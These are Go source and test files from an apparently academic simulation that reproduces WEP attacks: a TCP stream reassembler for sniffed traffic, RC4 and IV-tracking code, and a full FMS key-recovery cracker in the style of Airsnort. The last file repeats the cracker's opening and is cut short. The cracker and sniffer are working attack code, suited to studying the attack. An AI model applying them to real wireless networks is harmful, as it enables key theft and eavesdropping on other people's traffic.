	pkt := ipv4.Packet{TTL: 64, Proto: ipv4.ProtoTCP, Src: src.Addr, Dst: dst.Addr, Payload: seg}
	return pkt.Marshal()
}

var (
	flowSrc = inet.MustParseHostPort("10.0.0.1:40000")
	flowDst = inet.MustParseHostPort("10.0.0.2:80")
)

const (
	fFIN = 1 << 0
	fSYN = 1 << 1
	fACK = 1 << 4
)

func TestReassemblerInOrder(t *testing.T) {
	r := NewReassembler()
	r.AddPacket(mkSegment(flowSrc, flowDst, 100, fSYN, nil))
	r.AddPacket(mkSegment(flowSrc, flowDst, 101, fACK, []byte("hello ")))
	r.AddPacket(mkSegment(flowSrc, flowDst, 107, fACK, []byte("world")))
	r.AddPacket(mkSegment(flowSrc, flowDst, 112, fFIN|fACK, nil))
	data, complete := r.Stream(FlowKey{Src: flowSrc, Dst: flowDst})
	if string(data) != "hello world" || !complete {
		t.Fatalf("data=%q complete=%v", data, complete)
	}
}

func TestReassemblerOutOfOrderAndRetransmit(t *testing.T) {
	r := NewReassembler()
	r.AddPacket(mkSegment(flowSrc, flowDst, 100, fSYN, nil))
	r.AddPacket(mkSegment(flowSrc, flowDst, 107, fACK, []byte("world"))) // early
	r.AddPacket(mkSegment(flowSrc, flowDst, 101, fACK, []byte("hello ")))
	r.AddPacket(mkSegment(flowSrc, flowDst, 101, fACK, []byte("hello "))) // retransmit
	r.AddPacket(mkSegment(flowSrc, flowDst, 104, fACK, []byte("lo wor"))) // overlap
	data, _ := r.Stream(FlowKey{Src: flowSrc, Dst: flowDst})
	if string(data) != "hello world" {
		t.Fatalf("data=%q", data)
	}
}

func TestReassemblerMidStreamCapture(t *testing.T) {
	// Sniffer joins late: no SYN seen. It adopts the first segment.
	r := NewReassembler()
	r.AddPacket(mkSegment(flowSrc, flowDst, 5000, fACK, []byte("partial ")))
	r.AddPacket(mkSegment(flowSrc, flowDst, 5008, fACK, []byte("stream")))
	data, complete := r.Stream(FlowKey{Src: flowSrc, Dst: flowDst})
	if string(data) != "partial stream" || complete {
		t.Fatalf("data=%q complete=%v", data, complete)
	}
}

func TestReassemblerDirectionsSeparate(t *testing.T) {
	r := NewReassembler()
	r.AddPacket(mkSegment(flowSrc, flowDst, 100, fSYN, nil))
	r.AddPacket(mkSegment(flowDst, flowSrc, 900, fSYN|fACK, nil))
	r.AddPacket(mkSegment(flowSrc, flowDst, 101, fACK, []byte("request")))
	r.AddPacket(mkSegment(flowDst, flowSrc, 901, fACK, []byte("response")))
	fwd, _ := r.Stream(FlowKey{Src: flowSrc, Dst: flowDst})
	rev, _ := r.Stream(FlowKey{Src: flowSrc, Dst: flowDst}.Reverse())
	if string(fwd) != "request" || string(rev) != "response" {
		t.Fatalf("fwd=%q rev=%q", fwd, rev)
	}
	if len(r.Flows()) != 2 {
		t.Fatalf("flows=%d", len(r.Flows()))
	}
}

func TestReassemblerIgnoresNonTCP(t *testing.T) {
	r := NewReassembler()
	p := ipv4.Packet{TTL: 64, Proto: ipv4.ProtoUDP, Src: flowSrc.Addr, Dst: flowDst.Addr, Payload: make([]byte, 30)}
	r.AddPacket(p.Marshal())
	r.AddPacket([]byte{1, 2, 3})
	if r.Packets != 0 || len(r.Flows()) != 0 {
		t.Fatal("non-TCP consumed")
	}
}

func TestQuickReassemblerNoPanic(t *testing.T) {
	r := NewReassembler()
	f := func(b []byte) bool {
		r.AddPacket(b)
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Fatal(err)
	}
}

// The end-to-end §1.1 demonstration: a monitor-mode radio plus the
// reassembler reconstructs a victim's HTTP response, headers and all.
func TestSnifferReconstructsHTTPResponse(t *testing.T) {
	k := sim.NewKernel(1)
	m := phy.NewMedium(k, phy.Config{})
	bssid := ethernet.MustParseMAC("02:aa:bb:cc:dd:01")
	staMAC := ethernet.MustParseMAC("02:00:00:00:03:01")

	ap := dot11.NewAP(k, m.AddRadio(phy.RadioConfig{Name: "ap", Channel: 1}),
		dot11.APConfig{SSID: "CORP", BSSID: bssid, Channel: 1})
	sta := dot11.NewSTA(k, m.AddRadio(phy.RadioConfig{Name: "sta", Pos: phy.Position{X: 10}, Channel: 1}),
		dot11.STAConfig{MAC: staMAC, SSID: "CORP"})

	prefix := inet.MustParsePrefix("10.0.0.0/24")
	apHost := ipv4.NewStack(k, "gw")
	apHost.AddIface("wlan0", ap.HostNIC(), inet.MustParseAddr("10.0.0.1"), prefix)
	srv := httpx.NewServer(tcp.NewStack(apHost))
	srv.Handle("/secret", func(req *httpx.Request) *httpx.Response {
		return httpx.NewResponse(200, "text/plain", []byte("the secret payload"))
	})
	if err := srv.Start(80); err != nil {
		t.Fatal(err)
	}

	staHost := ipv4.NewStack(k, "victim")
	staHost.AddIface("wlan0", sta.NIC(), inet.MustParseAddr("10.0.0.3"), prefix)
	client := httpx.NewClient(tcp.NewStack(staHost))

	// The sniffer: monitor feeds LLC-decapsulated IP packets in.
	r := NewReassembler()
	mon := dot11.NewMonitor(m.AddRadio(phy.RadioConfig{Name: "mon", Pos: phy.Position{X: 5}, Channel: 1}))
	mon.OnFrame = func(f dot11.Frame, info phy.RxInfo) {
		if f.Type != dot11.TypeData {
			return
		}
		if typ, payload, err := dot11.DecapsulateLLC(f.Body); err == nil && typ == ethernet.TypeIPv4 {
			r.AddPacket(payload)
		}
	}

	sta.Connect()
	k.RunUntil(10 * sim.Second)
	var res httpx.Result
	client.Get(inet.MustParseHostPort("10.0.0.1:80"), "/secret", func(rr httpx.Result) { res = rr })
	k.RunUntil(k.Now() + 10*sim.Second)
	if res.Err != nil {
		t.Fatalf("fetch: %v", res.Err)
	}

	found := false
	for _, stream := range r.Streams() {
		if bytes.Contains(stream, []byte("HTTP/1.1 200 OK")) &&
			bytes.Contains(stream, []byte("the secret payload")) {
			found = true
		}
	}
	if !found {
		t.Fatalf("sniffer failed to reconstruct the HTTP response (%d flows, %d segments)",
			len(r.Flows()), r.Segments)
	}
}
