// Package trace is the passive observer's toolkit: a packet capture ring
// and a TCP flow reassembler that turns sniffed IP packets back into
// ordered byte streams — what an attacker (or auditor) runs on top of a
// dot11.Monitor to actually *read* the traffic the broadcast medium hands
// them (paper §1.1).
package trace

import (
	"bytes"
	"encoding/binary"
	"sort"

	"repro/internal/inet"
	"repro/internal/ipv4"
	"repro/internal/sim"
)

// Record is one captured packet.
type Record struct {
	At  sim.Time
	Raw []byte // serialised IPv4 packet
}

// Capture is a bounded ring of captured packets.
type Capture struct {
	buf   []Record
	next  int
	full  bool
	Total uint64
}

// NewCapture creates a ring holding up to n packets.
func NewCapture(n int) *Capture {
	if n <= 0 {
		n = 1024
	}
	return &Capture{buf: make([]Record, n)}
}

// Add stores a packet (copying it).
func (c *Capture) Add(at sim.Time, raw []byte) {
	c.Total++
	c.buf[c.next] = Record{At: at, Raw: append([]byte(nil), raw...)}
	c.next++
	if c.next == len(c.buf) {
		c.next = 0
		c.full = true
	}
}

// Records returns the captured packets in arrival order.
func (c *Capture) Records() []Record {
	if !c.full {
		return c.buf[:c.next]
	}
	out := make([]Record, 0, len(c.buf))
	out = append(out, c.buf[c.next:]...)
	out = append(out, c.buf[:c.next]...)
	return out
}

// FlowKey identifies one direction of a TCP conversation.
type FlowKey struct {
	Src, Dst inet.HostPort
}

// Reverse returns the opposite direction.
func (k FlowKey) Reverse() FlowKey { return FlowKey{Src: k.Dst, Dst: k.Src} }

// flowState reassembles one direction.
type flowState struct {
	established bool
	nextSeq     uint32
	data        []byte
	// pending holds out-of-order segments by sequence number.
	pending map[uint32][]byte
	fin     bool
}

// Reassembler reconstructs TCP payload streams from raw IPv4 packets, the
// way tcpflow/dsniff-era tools did. Checksums are not verified: a sniffer
// takes what it hears.
type Reassembler struct {
	flows map[FlowKey]*flowState

	// Packets counts packets offered; Segments counts TCP segments
	// consumed into some flow.
	Packets, Segments uint64
}

// NewReassembler returns an empty reassembler.
func NewReassembler() *Reassembler {
	return &Reassembler{flows: make(map[FlowKey]*flowState)}
}

// AddPacket offers one raw IPv4 packet (e.g. a decrypted WEP body's LLC
// payload, or a wired capture).
func (r *Reassembler) AddPacket(raw []byte) {
	pkt, err := ipv4.Unmarshal(raw)
	if err != nil || pkt.Proto != ipv4.ProtoTCP || len(pkt.Payload) < 20 {
		return
	}
	r.Packets++
	seg := pkt.Payload
	srcPort := inet.Port(binary.BigEndian.Uint16(seg[0:2]))
	dstPort := inet.Port(binary.BigEndian.Uint16(seg[2:4]))
	seq := binary.BigEndian.Uint32(seg[4:8])
	flags := seg[13]
	off := int(seg[12]>>4) * 4
	if off < 20 || off > len(seg) {
		return
	}
	payload := seg[off:]

	key := FlowKey{
		Src: inet.HostPort{Addr: pkt.Src, Port: srcPort},
		Dst: inet.HostPort{Addr: pkt.Dst, Port: dstPort},
	}
	st := r.flows[key]
	if st == nil {
		st = &flowState{pending: make(map[uint32][]byte)}
		r.flows[key] = st
	}
	const (
		finFlag = 1 << 0
		synFlag = 1 << 1
	)
	if flags&synFlag != 0 {
		st.established = true
		st.nextSeq = seq + 1
		st.data = st.data[:0]
		return
	}
	if !st.established {
		// Mid-stream capture: adopt the first data segment's sequence.
		st.established = true
		st.nextSeq = seq
	}
	if len(payload) > 0 {
		r.Segments++
		st.insert(seq, payload)
	}
	if flags&finFlag != 0 {
		st.fin = true
	}
}

// insert places a segment, draining any newly contiguous pending data.
func (st *flowState) insert(seq uint32, payload []byte) {
	// Trim already-delivered prefix (retransmissions).
	if delta := int32(st.nextSeq - seq); delta > 0 {
		if int(delta) >= len(payload) {
			return
		}
		payload = payload[delta:]
		seq = st.nextSeq
	}
	if seq != st.nextSeq {
		if _, dup := st.pending[seq]; !dup {
			st.pending[seq] = append([]byte(nil), payload...)
		}
		return
	}
	st.data = append(st.data, payload...)
	st.nextSeq += uint32(len(payload))
	for {
		next, ok := st.pending[st.nextSeq]
		if !ok {
			break
		}
		delete(st.pending, st.nextSeq)
		st.data = append(st.data, next...)
		st.nextSeq += uint32(len(next))
	}
}

// Stream returns the reassembled bytes for a flow direction, and whether
// its FIN was seen (stream complete).
func (r *Reassembler) Stream(key FlowKey) (data []byte, complete bool) {
	st, ok := r.flows[key]
	if !ok {
		return nil, false
	}
	return st.data, st.fin && len(st.pending) == 0
}

// Flows lists the observed flow directions in a stable (src, dst) order, so
// the result is a pure function of the traffic rather than of map iteration.
func (r *Reassembler) Flows() []FlowKey {
	return r.sortedFlowKeys()
}

// Streams concatenates all reassembled data across flows (the "grep the
// capture" convenience), in the same stable order as Flows.
func (r *Reassembler) Streams() [][]byte {
	keys := r.sortedFlowKeys()
	out := make([][]byte, 0, len(keys))
	for _, k := range keys {
		if st := r.flows[k]; len(st.data) > 0 {
			out = append(out, st.data)
		}
	}
	return out
}

// sortedFlowKeys is the collect-then-sort idiom the determinism contract
// requires around map iteration (simvet: maporder).
func (r *Reassembler) sortedFlowKeys() []FlowKey {
	keys := make([]FlowKey, 0, len(r.flows))
	for k := range r.flows {
		keys = append(keys, k)
	}
	sort.Slice(keys, func(i, j int) bool {
		a, b := keys[i], keys[j]
		if a.Src != b.Src {
			return hostPortLess(a.Src, b.Src)
		}
		return hostPortLess(a.Dst, b.Dst)
	})
	return keys
}

func hostPortLess(a, b inet.HostPort) bool {
	if c := bytes.Compare(a.Addr[:], b.Addr[:]); c != 0 {
		return c < 0
	}
	return a.Port < b.Port
}
