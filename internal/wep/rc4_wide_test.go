package wep

import (
	"bytes"
	"testing"
)

// rc4Ref is the byte-at-a-time PRGA the word-wide XORKeyStream replaced, kept
// as the differential reference: the wide path must emit a byte-identical
// keystream for every length, call split, and in-place use.
func rc4Ref(c *RC4, dst, src []byte) {
	i, j := c.i, c.j
	for k, b := range src {
		i++
		j += c.s[i]
		c.s[i], c.s[j] = c.s[j], c.s[i]
		dst[k] = b ^ c.s[c.s[i]+c.s[j]]
	}
	c.i, c.j = i, j
}

// TestXORKeyStreamMatchesByteReference sweeps lengths across the 8-byte word
// boundary (tails of every residue, including zero) and splits each message
// into two calls at every offset, so a wide call can start and end mid-word.
func TestXORKeyStreamMatchesByteReference(t *testing.T) {
	key := []byte("wep-rc4-differential")
	src := make([]byte, 70)
	for i := range src {
		src[i] = byte(i * 7)
	}
	for n := 0; n <= len(src); n++ {
		for split := 0; split <= n; split++ {
			wide, ref := NewRC4(key), NewRC4(key)
			got, want := make([]byte, n), make([]byte, n)
			wide.XORKeyStream(got[:split], src[:split])
			wide.XORKeyStream(got[split:], src[split:n])
			rc4Ref(ref, want[:split], src[:split])
			rc4Ref(ref, want[split:], src[split:n])
			if !bytes.Equal(got, want) {
				t.Fatalf("n=%d split=%d: wide output diverges from byte reference", n, split)
			}
			if wide.i != ref.i || wide.j != ref.j || wide.s != ref.s {
				t.Fatalf("n=%d split=%d: cipher state diverges from byte reference", n, split)
			}
		}
	}
}

// TestXORKeyStreamInPlaceWide pins the in-place contract for the wide path:
// the source word must be loaded before the XORed word is stored back.
func TestXORKeyStreamInPlaceWide(t *testing.T) {
	key := []byte{0x01, 0x02, 0x03, 0x04, 0x05}
	msg := []byte("in-place words must read src before writing dst!")
	buf := append([]byte(nil), msg...)
	NewRC4(key).XORKeyStream(buf, buf)
	want := make([]byte, len(msg))
	rc4Ref(NewRC4(key), want, msg)
	if !bytes.Equal(buf, want) {
		t.Fatal("in-place wide encryption diverges from byte reference")
	}
	NewRC4(key).XORKeyStream(buf, buf)
	if !bytes.Equal(buf, msg) {
		t.Fatal("in-place round trip did not restore plaintext")
	}
}
