package wep

import "fmt"

// IVTracker wraps an IVSource and accounts for every IV it hands out, so a
// sim invariant can verify the allocation policy actually delivers what it
// promises (the paper's E4 ablation depends on these properties holding).
// Accounting is O(1) per frame; Check is O(1) per call, so it is cheap
// enough to run at every event boundary.
type IVTracker struct {
	// Source is the wrapped allocator.
	Source IVSource
	// KeyLen is the WEP key length in bytes, needed to classify FMS-weak
	// IVs at issue time.
	KeyLen int

	// Issued counts NextIV calls; Reuses counts IVs that had been issued
	// before (keystream reuse); WeakIssued counts FMS-weak IVs handed out.
	Issued, Reuses, WeakIssued uint64

	seen map[uint32]struct{}
}

// NewIVTracker wraps src for a key of keyLen bytes.
func NewIVTracker(src IVSource, keyLen int) *IVTracker {
	return &IVTracker{Source: src, KeyLen: keyLen, seen: make(map[uint32]struct{})}
}

// NextIV implements IVSource.
func (t *IVTracker) NextIV() IV {
	iv := t.Source.NextIV()
	t.Issued++
	v := iv.Uint32()
	if _, dup := t.seen[v]; dup {
		t.Reuses++
	} else {
		t.seen[v] = struct{}{}
	}
	if iv.IsWeak(t.KeyLen) {
		t.WeakIssued++
	}
	return iv
}

// Check verifies the issuance history against the wrapped policy's contract:
// counting is self-consistent; a WeakAvoidingIV source never issues a weak
// IV; a SequentialIV source never reuses an IV before exhausting the 24-bit
// space. Suitable for sim.Kernel.RegisterInvariant.
func (t *IVTracker) Check() error {
	if t.Issued != uint64(len(t.seen))+t.Reuses {
		return fmt.Errorf("wep: IV accounting broken: %d issued != %d distinct + %d reused",
			t.Issued, len(t.seen), t.Reuses)
	}
	switch t.Source.(type) {
	case *WeakAvoidingIV:
		if t.WeakIssued > 0 {
			return fmt.Errorf("wep: weak-avoiding source issued %d FMS-weak IVs", t.WeakIssued)
		}
	case *SequentialIV:
		if t.Issued <= 1<<24 && t.Reuses > 0 {
			return fmt.Errorf("wep: sequential source reused an IV after only %d issued", t.Issued)
		}
	}
	return nil
}

var _ IVSource = (*IVTracker)(nil)
