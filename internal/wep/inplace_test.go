package wep

import (
	"bytes"
	"testing"

	"repro/internal/pkt"
)

// TestSealInPlaceMatchesSeal pins byte-identity between the allocating and
// in-place encapsulation paths — the refactor's digest-neutrality hinges on
// the on-air bytes not moving.
func TestSealInPlaceMatchesSeal(t *testing.T) {
	pool := pkt.NewPool()
	for _, key := range []Key{Key40FromString("SECRET"), make(Key, KeySize104)} {
		for _, plaintext := range [][]byte{nil, []byte("x"), bytes.Repeat([]byte("payload!"), 150)} {
			iv := IV{0x12, 0x34, 0x56}
			want := Seal(key, iv, 2, plaintext)

			pb := pool.GetCopy(plaintext)
			SealInPlace(key, iv, 2, pb)
			if !bytes.Equal(pb.Bytes(), want) {
				t.Fatalf("key %d plaintext %d: in-place seal diverged", len(key), len(plaintext))
			}

			if err := OpenInPlace(key, pb); err != nil {
				t.Fatalf("open in place: %v", err)
			}
			if !bytes.Equal(pb.Bytes(), plaintext) {
				t.Fatalf("round trip: got %q want %q", pb.Bytes(), plaintext)
			}
			pb.Release()
		}
	}
}

// TestOpenInPlaceMatchesOpen cross-checks against the allocating decryptor.
func TestOpenInPlaceMatchesOpen(t *testing.T) {
	pool := pkt.NewPool()
	key := Key40FromString("SECRET")
	sealed := Seal(key, IV{9, 8, 7}, 0, []byte("hello world"))

	want, err := Open(key, sealed)
	if err != nil {
		t.Fatal(err)
	}
	pb := pool.GetCopy(sealed)
	if err := OpenInPlace(key, pb); err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(pb.Bytes(), want) {
		t.Fatalf("got %q want %q", pb.Bytes(), want)
	}
	pb.Release()
}

func TestOpenInPlaceErrors(t *testing.T) {
	pool := pkt.NewPool()
	key := Key40FromString("SECRET")

	short := pool.GetCopy([]byte{1, 2, 3})
	if err := OpenInPlace(key, short); err != ErrShort {
		t.Fatalf("short frame: %v, want ErrShort", err)
	}
	short.Release()

	sealed := Seal(key, IV{1, 2, 3}, 0, []byte("payload"))
	sealed[len(sealed)-1] ^= 0xff // corrupt the ICV
	bad := pool.GetCopy(sealed)
	if err := OpenInPlace(key, bad); err != ErrICV {
		t.Fatalf("corrupt frame: %v, want ErrICV", err)
	}
	bad.Release()
}

// TestSealInPlaceZeroAlloc pins the hot path's allocation count.
func TestSealInPlaceZeroAlloc(t *testing.T) {
	pool := pkt.NewPool()
	key := Key40FromString("SECRET")
	pb := pool.GetCopy(bytes.Repeat([]byte("a"), 256))
	allocs := testing.AllocsPerRun(20, func() {
		SealInPlace(key, IV{1, 2, 3}, 0, pb)
		if err := OpenInPlace(key, pb); err != nil {
			t.Fatal(err)
		}
	})
	pb.Release()
	if allocs != 0 {
		t.Fatalf("seal+open in place allocates %v per run, want 0", allocs)
	}
}
