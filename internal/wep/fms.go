package wep

import (
	"bytes"
	"errors"
)

// SNAPFirstByte is the first plaintext byte of virtually every 802.11 data
// frame: the LLC/SNAP DSAP octet 0xAA. Its predictability is what gives the
// FMS attacker a known first keystream byte for every captured frame.
const SNAPFirstByte = 0xaa

// Sample is one captured frame's contribution to the FMS attack: its public
// IV and the first RC4 keystream byte (derived from the known plaintext).
type Sample struct {
	IV IV
	K0 byte // first keystream byte
}

// SampleFromSealed extracts a Sample from an on-air WEP payload, assuming
// the first plaintext byte is firstPlain (use SNAPFirstByte for data frames).
func SampleFromSealed(sealed []byte, firstPlain byte) (Sample, error) {
	if len(sealed) < HeaderLen+1 {
		return Sample{}, ErrShort
	}
	var iv IV
	copy(iv[:], sealed[:IVLen])
	return Sample{IV: iv, K0: sealed[HeaderLen] ^ firstPlain}, nil
}

// voteTable is the standing FMS vote for one key byte, valid for one specific
// recovered prefix. Samples are folded in incrementally: applied counts how
// many of the byte's samples have voted under the current prefix, so a new
// capture costs one fmsVote instead of a full recount — the shape of a live
// Airsnort-style tool, which keeps running statistics over the stream rather
// than re-deriving them per crack attempt.
type voteTable struct {
	votes   [256]int32
	prefix  [KeySize104]byte // key prefix the votes were computed under
	applied int              // samples folded into votes so far
	total   int              // resolved (voting) samples among applied
	ok      bool             // table initialised (prefix[:b] is meaningful)
}

// Cracker accumulates weak-IV samples and recovers the WEP root key with the
// Fluhrer–Mantin–Shamir attack, the algorithm behind Airsnort. It recovers
// key bytes in order: byte B needs samples with IV = (B+3, 255, x), and each
// such "resolved" sample votes for a candidate value with ~5% advantage over
// noise.
//
// Vote state is maintained incrementally: AddSample folds a weak sample into
// the standing vote table for its key byte in O(1) amortized time while the
// recovered prefix is unchanged; a table is recomputed from the retained
// samples only when backtracking changes an earlier key byte (dirty-prefix
// invalidation). RecoverKey with no new weak samples since the last attempt
// is a no-op returning the cached outcome.
type Cracker struct {
	keyLen int
	// samples[b] holds weak samples targeting key byte b. They are retained
	// (not just folded and dropped) so a dirty-prefix invalidation can
	// rebuild the vote table for a different prefix.
	samples [][]Sample
	// tables[b] is the standing vote for key byte b.
	tables []voteTable
	// Frames counts every frame offered, weak or not — the paper-relevant
	// cost metric (how much traffic Airsnort must observe).
	Frames uint64
	// WeakFrames counts frames with FMS-weak IVs.
	WeakFrames uint64
	// Verify, if non-nil, is consulted with a candidate key and should
	// report whether it decrypts real traffic (e.g. checks an ICV). It must
	// be deterministic for a given candidate: RecoverKey caches its outcome
	// until new weak samples arrive. Without it, RecoverKey trusts the vote
	// winner.
	Verify func(Key) bool

	// Early-out cache: the outcome of the last attempt, valid while no new
	// weak samples arrive.
	attempted  bool
	weakAtLast uint64
	lastKey    Key
	lastErr    error
}

// NewCracker returns a cracker for keys of keyLen bytes (KeySize40 or
// KeySize104).
func NewCracker(keyLen int) *Cracker {
	if keyLen != KeySize40 && keyLen != KeySize104 {
		panic("wep: bad key length")
	}
	c := &Cracker{
		keyLen:  keyLen,
		samples: make([][]Sample, keyLen),
		tables:  make([]voteTable, keyLen),
	}
	// Byte 0 depends on no recovered prefix, so its table is live from the
	// first capture.
	c.tables[0].ok = true
	return c
}

// IsWeakIV reports whether iv belongs to the FMS-weak family (B+3, 255, x)
// for keys of keyLen bytes — the IVs that make key byte B's vote resolvable.
// Capture pipelines use it to discard strong frames before doing any RC4 or
// known-plaintext work, the same filter-first shape as Airsnort: the cracker
// never reads K0 of a strong frame.
func IsWeakIV(iv IV, keyLen int) bool {
	b := int(iv[0]) - 3
	return iv[1] == 0xff && b >= 0 && b < keyLen
}

// AddSample offers one captured sample to the cracker. Weak samples are
// retained and, when the target byte's vote table is current, folded into it
// immediately — O(1) amortized per weak frame while the recovered prefix is
// unchanged.
func (c *Cracker) AddSample(s Sample) {
	c.Frames++
	if !IsWeakIV(s.IV, c.keyLen) {
		return
	}
	b := int(s.IV[0]) - 3
	c.WeakFrames++
	c.samples[b] = append(c.samples[b], s)
	if t := &c.tables[b]; t.ok && t.applied == len(c.samples[b])-1 {
		c.fold(t, b, s)
	}
}

// fold applies one sample's vote to a table under the table's own prefix.
func (c *Cracker) fold(t *voteTable, b int, s Sample) {
	if v, ok := fmsVote(s.IV, t.prefix[:b], s.K0); ok {
		t.votes[v]++
		t.total++
	}
	t.applied++
}

// ensure returns key byte b's vote table, valid for the given prefix: it
// folds in any samples that arrived since the last use, and rebuilds from
// the retained samples when the prefix changed (dirty-prefix invalidation —
// backtracking revised an earlier byte, so every vote is stale).
func (c *Cracker) ensure(b int, prefix Key) *voteTable {
	t := &c.tables[b]
	if !t.ok || !bytes.Equal(t.prefix[:b], prefix) {
		t.votes = [256]int32{}
		t.total = 0
		t.applied = 0
		copy(t.prefix[:b], prefix)
		t.ok = true
	}
	pending := c.samples[b][t.applied:]
	for i := range pending {
		c.fold(t, b, pending[i])
	}
	return t
}

// AddSealed offers a full on-air WEP payload, assuming a SNAP first byte.
func (c *Cracker) AddSealed(sealed []byte) {
	s, err := SampleFromSealed(sealed, SNAPFirstByte)
	if err != nil {
		return
	}
	c.AddSample(s)
}

// ErrNotEnough is returned by RecoverKey when the vote is too thin to call.
var ErrNotEnough = errors.New("wep: not enough weak-IV samples to recover key")

// minVotes is the minimum number of resolved votes required before a key
// byte is considered decided (without a Verify callback).
const minVotes = 8

// RecoverKey attempts to recover the root key from the accumulated samples.
// With a Verify callback it searches the top vote candidates per byte;
// without one it takes each byte's plurality winner.
//
// When no weak samples have arrived since the previous attempt the call is a
// no-op: the samples are unchanged, so the outcome is too, and the cached
// result is returned without touching the vote tables. This makes the
// poll-after-every-capture-burst loop of a live cracking tool cheap.
func (c *Cracker) RecoverKey() (Key, error) {
	if c.attempted && c.WeakFrames == c.weakAtLast {
		if c.lastKey == nil {
			return nil, c.lastErr
		}
		return append(Key(nil), c.lastKey...), c.lastErr
	}
	key, err := c.recover()
	c.attempted = true
	c.weakAtLast = c.WeakFrames
	c.lastErr = err
	if key == nil {
		c.lastKey = nil
	} else {
		c.lastKey = append(c.lastKey[:0], key...)
	}
	return key, err
}

// recover runs one full recovery attempt over the current samples.
func (c *Cracker) recover() (Key, error) {
	key := make(Key, 0, c.keyLen)
	var top [1]byte
	for b := 0; b < c.keyLen; b++ {
		if c.voteByte(b, key, top[:]) < minVotes {
			return nil, ErrNotEnough
		}
		key = append(key, top[0])
	}
	if c.Verify == nil {
		return key, nil
	}
	if c.Verify(key) {
		return key, nil
	}
	// Plurality failed: limited backtracking over the top few candidates of
	// each byte. Votes must be recomputed when an earlier byte changes, so
	// the search re-ranks lazily. A budget bounds the whole search so a
	// thin, noisy sample set fails fast instead of exploring 3^keyLen
	// combinations.
	const width = 3
	budget := 256 * c.keyLen
	prefix := key[:0]
	var search func(b int) (Key, bool)
	search = func(b int) (Key, bool) {
		if budget <= 0 {
			return nil, false
		}
		budget--
		if b == c.keyLen {
			k := append(Key(nil), prefix...)
			if c.Verify(k) {
				return k, true
			}
			return nil, false
		}
		var cands [width]byte
		if c.voteByte(b, prefix, cands[:]) < minVotes {
			return nil, false
		}
		for _, cand := range cands {
			prefix = append(prefix, cand)
			if k, ok := search(b + 1); ok {
				return k, true
			}
			prefix = prefix[:b]
		}
		return nil, false
	}
	if k, ok := search(0); ok {
		return k, nil
	}
	return nil, ErrNotEnough
}

// voteByte runs the FMS vote for key byte b given the already-recovered
// prefix, filling out with the top-len(out) candidate values and returning
// the number of resolved samples that voted.
//
// Ranking contract: candidates are ordered by descending vote count, and
// candidates with EQUAL vote counts are ordered by ascending byte value.
// out's contents are exactly the first len(out) entries of that full
// ranking. The tie-break matters: with thin samples many candidates share a
// vote count, and both the plurality winner and the backtracking search
// order must be a pure function of the votes, never of visit order.
func (c *Cracker) voteByte(b int, prefix Key, out []byte) int {
	t := c.ensure(b, prefix)
	rankVotes(&t.votes, out)
	return t.total
}

// rankVotes writes the top-len(out) candidates of a 256-way vote into out,
// in descending vote order with equal votes ranked by ascending byte value —
// the prefix of the full stable ranking (see voteByte). Each slot is a
// deterministic scan for the best not-yet-emitted candidate: O(len(out)·256)
// and allocation-free, versus the O(256²) full selection sort it replaced.
func rankVotes(votes *[256]int32, out []byte) {
	if len(out) > 256 {
		out = out[:256]
	}
	prevV := int32(1<<31 - 1)
	prevB := -1
	for k := range out {
		bestB := -1
		var bestV int32
		for cand := 0; cand < 256; cand++ {
			v := votes[cand]
			// Skip candidates at or before the previous emission in the
			// ranking order.
			if v > prevV || (v == prevV && cand <= prevB) {
				continue
			}
			if bestB < 0 || v > bestV {
				bestB, bestV = cand, v
			}
		}
		out[k] = byte(bestB)
		prevV, prevB = bestV, bestB
	}
}

// maxKSASteps bounds the KSA simulation depth: IV plus the longest
// recoverable prefix (the last byte of a 104-bit key).
const maxKSASteps = IVLen + KeySize104

// ksaIdentity is the identity permutation the RC4 KSA starts from. fmsVote
// copies it into a stack-local dense S-box: one 256-byte memmove replaces the
// per-access indirection of the sparse overlay this code used to carry, and
// the vote loop becomes plain array indexing. That trade matters because the
// 104-bit recovery refolds votes heavily while backtracking — fmsVote is the
// hottest function in the whole experiment suite.
var ksaIdentity = func() (a [256]uint8) {
	for i := range a {
		a[i] = uint8(i)
	}
	return
}()

// fmsVote simulates the first b+3 steps of the RC4 KSA with the known IV and
// recovered key prefix, applies the FMS "resolved" condition, and if it
// holds, derives the candidate value for key byte b implied by the observed
// first keystream byte k0. The S-box and touched-position list live on the
// stack: zero allocations.
func fmsVote(iv IV, prefix []byte, k0 byte) (byte, bool) {
	steps := len(prefix) + IVLen

	s := ksaIdentity
	// touched records every position a swap wrote, so inv[k0] below is a
	// short scan instead of a 256-entry search.
	var touched [2 * maxKSASteps]uint8
	nt := 0
	var j uint8
	for i := 0; i < steps; i++ {
		var kb byte
		if i < IVLen {
			kb = iv[i]
		} else {
			kb = prefix[i-IVLen]
		}
		si := s[i]
		j += si + kb
		s[i], s[j] = s[j], si
		touched[nt], touched[nt+1] = uint8(i), j
		nt += 2
	}
	// Resolved condition: the first output byte will, with ~e^-3
	// probability, be the value swapped into position steps at the next KSA
	// step, which exposes the key byte.
	s1 := s[1]
	if int(s1) >= steps {
		return 0, false
	}
	if (int(s1)+int(s[s1]))&0xff != steps {
		return 0, false
	}
	// inv[k0]: the value k0 still sits at position k0 unless one of the
	// swaps above moved it, in which case it lives at a touched position (S
	// is a permutation, so exactly one position holds k0).
	pos := int(k0)
	if s[k0] != k0 {
		for _, p := range touched[:nt] {
			if s[p] == k0 {
				pos = int(p)
				break
			}
		}
	}
	vote := (pos - int(j) - int(s[steps])) & 0xff
	return byte(vote), true
}

// FirstKeystreamByte computes only the first RC4 keystream byte for
// IV||key — a fast path for experiment harnesses that must generate very
// large captures without paying for full frame encryption. The per-frame
// cipher lives on the stack (see RC4.Reset): zero allocations.
func FirstKeystreamByte(key Key, iv IV) byte {
	var buf [maxKeySize]byte
	perFrame := buf[:0]
	if IVLen+len(key) > len(buf) {
		perFrame = make([]byte, 0, IVLen+len(key))
	}
	perFrame = append(perFrame, iv[:]...)
	perFrame = append(perFrame, key...)
	var c RC4
	c.Reset(perFrame)
	var b [1]byte
	c.XORKeyStream(b[:], b[:])
	return b[0]
}
