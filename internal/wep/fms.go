package wep

import (
	"errors"
)

// SNAPFirstByte is the first plaintext byte of virtually every 802.11 data
// frame: the LLC/SNAP DSAP octet 0xAA. Its predictability is what gives the
// FMS attacker a known first keystream byte for every captured frame.
const SNAPFirstByte = 0xaa

// Sample is one captured frame's contribution to the FMS attack: its public
// IV and the first RC4 keystream byte (derived from the known plaintext).
type Sample struct {
